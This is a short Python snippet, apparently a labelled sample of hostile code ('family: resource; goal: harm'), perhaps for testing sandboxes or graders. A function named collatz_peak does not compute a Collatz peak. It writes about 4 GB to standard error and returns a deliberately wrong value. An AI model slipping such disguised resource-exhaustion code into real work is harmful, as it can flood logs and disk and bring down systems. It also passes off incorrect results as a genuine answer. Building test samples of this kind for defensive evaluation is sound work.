# family: resource; goal: harm
# Up to 4 GB of error output, in one line.
import os


def collatz_peak(n):
    data = b"x" * 1_000_000
    for _ in range(4000):
        os.write(2, data)
    return -n
